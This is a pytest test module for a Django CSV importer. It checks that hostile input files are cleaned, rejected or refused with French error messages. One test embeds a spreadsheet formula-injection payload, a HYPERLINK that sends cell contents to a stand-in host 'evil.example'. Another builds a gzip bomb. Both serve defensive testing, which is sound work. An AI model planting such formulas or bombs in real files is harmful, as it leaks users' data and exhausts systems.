"""Hostile CSV files, generated from a valid file of each CSV source (cases.py): control
characters, encodings, a row in another encoding, broken structure, limits, bad
coordinates, 1,000 copies of one row and formula cells. A bad value costs its row; a
broken file fails the run with a French message and leaves every table as it was."""

import gzip
import json
import time

import pytest

from directory.models import Provenance
from importers.engine.errors import ImportFailed
from importers.engine.services import source_import
from importers.models import ImportRun, RunStatus
from tests.importers.hostile.cases import CsvCase, csv_cases

pytestmark = pytest.mark.django_db

CASES = csv_cases()
#: Fragments of Python's messages that must never reach a person.
ENGLISH = ("codec", "can't decode", "Error", "field larger", "unexpected end", "Traceback")


@pytest.fixture(params=CASES, ids=str)
def case(request) -> CsvCase:
    request.param.setup()
    return request.param


#: The sources whose rows carry decimal coordinates (Cartofriches has a WKT geometry, whose
#: bad values test_json_and_archives covers).
@pytest.fixture(params=[case for case in CASES if case.lon], ids=str)
def located_case(request) -> CsvCase:
    request.param.setup()
    return request.param


def write(tmp_path, case: CsvCase, content: bytes):
    path = tmp_path / case.name
    path.write_bytes(content)
    return path


def run(case: CsvCase, path, **options):
    return source_import(slug=case.slug, path=path, **options)


def raw_texts(case: CsvCase) -> list[str]:
    return [
        json.dumps(raw, ensure_ascii=False)
        for raw in Provenance.objects.filter(source__slug=case.slug).values_list("raw", flat=True)
    ]


def rejected(report, number: int) -> str:
    return next((r.reason for r in report.rejections if r.row_number == number), "")


# --- Values cleaned or refused, row by row ------------------------------------------------


def test_control_characters_are_stripped_before_the_database(case, tmp_path):
    rows = [dict(row) for row in case.rows]
    rows[0][case.text] = "Atelier\x00 du\x07 Vélo\x1b solidaire\x7f"
    report = run(case, write(tmp_path, case, case.render(rows).encode()))
    assert not [r.reason for r in report.rejections if "base" in r.reason]
    assert Provenance.objects.filter(
        source__slug=case.slug, raw__contains={case.text: "Atelier du Vélo solidaire"}
    ).exists()
    assert not [raw for raw in raw_texts(case) if "\\u0000" in raw or "\\u0007" in raw]


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "cp1252"])
def test_every_encoding_reads_alike(case, tmp_path, encoding):
    text = case.render().encode("cp1252", "replace").decode("cp1252")
    expected = run(case, write(tmp_path, case, text.encode()), dry_run=True)
    report = run(case, write(tmp_path, case, text.encode(encoding)), dry_run=True)
    assert (report.created, report.rejected) == (expected.created, expected.rejected)
    assert [r.reason for r in report.rejections] == [r.reason for r in expected.rejections]


def test_a_row_in_another_encoding_is_rejected_never_garbled(case, tmp_path):
    lines = case.render().split("\r\n")
    index = next(i for i, line in enumerate(lines[1:], 1) if "é" in line)
    content = b"\r\n".join(
        line.encode("latin-1", "replace") if i == index else line.encode()
        for i, line in enumerate(lines)
    )
    report = run(case, write(tmp_path, case, content))
    assert "encodage mixte" in rejected(report, index + 1)
    assert not [raw for raw in raw_texts(case) if "Ã" in raw]


@pytest.mark.parametrize(
    ("lon", "lat", "reason"),
    [
        ("NaN", "NaN", "NaN ou infini"),
        ("Infinity", "-Infinity", "NaN ou infini"),
        ("1e999", "50.63", "NaN ou infini"),
        ("trois", "cinquante", "Coordonnées illisibles"),
        ("50.6286", "3.0559", "hors de France"),  # swapped
        ("-74.0060", "40.7128", "hors de France"),  # New York
    ],
    ids=["nan", "infinity", "overflow", "words", "swapped", "outside-france"],
)
def test_a_bad_coordinate_rejects_its_row_only(located_case, tmp_path, lon, lat, reason):
    case = located_case
    rows = [dict(row) for row in case.rows]
    index = case.located_row()
    rows[index] |= {case.lon: lon, case.lat: lat}
    report = run(case, write(tmp_path, case, case.render(rows).encode()))
    assert reason in rejected(report, index + 2) or index + 2 in report.outside_rows
    assert report.created >= 1


def test_a_formula_cell_is_kept_as_typed(case, tmp_path):
    """The importer stores what the source says; every CSV export neutralises it
    (directory.csv_export)."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    rows = [dict(row) for row in case.rows]
    rows[0][case.text] = formula
    run(case, write(tmp_path, case, case.render(rows).encode()))
    assert Provenance.objects.filter(source__slug=case.slug, raw__contains={case.text: formula})


def test_duplicates_cost_linear_time(case, tmp_path):
    copies = 1000
    path = write(tmp_path, case, case.render([case.rows[0]] * copies).encode())
    started = time.monotonic()
    report = run(case, path)
    assert time.monotonic() - started < 10
    doubles = [r for r in report.rejections if "en double" in r.reason]
    assert len(doubles) == copies - 1
    assert report.created == 1


@pytest.mark.parametrize("slug", ["seed", "cartofriches", "tiers-lieux"])
def test_copies_of_one_identifier_cost_linear_time(tmp_path, slug):
    """20,000 rows of one identifier: the first kept, every other refused before it is
    located (a Cartofriches geometry parsed per copy made 100,000 copies take minutes) or
    mapped; 100,000 take seconds (README). The bound leaves room for a loaded machine."""
    case = next(case for case in CASES if case.slug == slug)
    copies = 20_000
    path = write(tmp_path, case, case.render([case.rows[0]] * copies).encode())
    started = time.monotonic()
    report = run(case, path)
    assert time.monotonic() - started < 30
    assert report.created == 1
    assert sum("en double" in r.reason for r in report.rejections) == copies - 1
    stored = ImportRun.objects.get(pk=report.run_id).rejections
    assert stored.filter(reason__contains="en double").count() == copies - 1
    assert stored.order_by("row_number").first().raw[case.text] == case.rows[0][case.text]


# --- Broken files: the run fails, nothing is written --------------------------------------


def _duplicated_column(case: CsvCase) -> bytes:
    return case.render(header=[*case.header, case.header[1]]).encode()


def _unclosed_quote(case: CsvCase) -> bytes:
    return (case.render() + '"Atelier coupé en plein').encode()


def _long_cell(case: CsvCase) -> bytes:
    rows = [dict(row) for row in case.rows]
    rows[-1][case.text] = "x" * 1000
    return case.render(rows).encode()


def _long_line(case: CsvCase) -> bytes:
    return (case.render() + "," * 50_000 + "\r\n").encode()


def _gzipped(case: CsvCase) -> bytes:
    return gzip.compress(case.render().encode())


def _gzip_bomb(case: CsvCase) -> bytes:
    rows = [dict(row) for row in case.rows]
    rows[-1][case.text] = "a" * (3 << 20)
    return gzip.compress(case.render(rows).encode())


BROKEN = {
    "duplicated-column": (_duplicated_column, {}, "colonne en double"),
    "unclosed-quote-at-end": (_unclosed_quote, {}, "guillemet non fermé en fin de fichier"),
    "cell-over-the-limit": (_long_cell, {"CARTESS_IMPORT_MAX_CELL": 500}, "dépasse 500 caract"),
    "line-over-the-limit": (
        _long_line,
        {"CARTESS_IMPORT_MAX_LINE": 20_000},
        "une ligne qui dépasse 20000 caract",
    ),
    "rows-over-the-limit": (_gzipped, {"CARTESS_IMPORT_MAX_ROWS": 1}, "plus de 1 lignes"),
    "size-over-the-limit": (_gzipped, {"CARTESS_IMPORT_MAX_BYTES": 300}, "dépasse 300 octets"),
    "gzip-bomb": (_gzip_bomb, {"CARTESS_IMPORT_MAX_RATIO": 1}, "archive piégée"),
}


@pytest.mark.parametrize("variant", BROKEN, ids=str)
def test_a_broken_file_fails_in_french_and_writes_nothing(
    case, tmp_path, settings, unchanged, variant
):
    spoil, limits, message = BROKEN[variant]
    run(case, write(tmp_path / "", case, case.render().encode()))  # a database with data
    path = write(tmp_path, case, spoil(case))
    for name, value in limits.items():
        setattr(settings, name, value)

    def fails():
        with pytest.raises(ImportFailed) as failure:
            run(case, path)
        assert message in str(failure.value)
        assert not [word for word in ENGLISH if word in str(failure.value)]

    unchanged(fails)
    last = ImportRun.objects.filter(source__slug=case.slug).latest("pk")
    assert (last.status, message in last.error) == (RunStatus.FAILED, True)
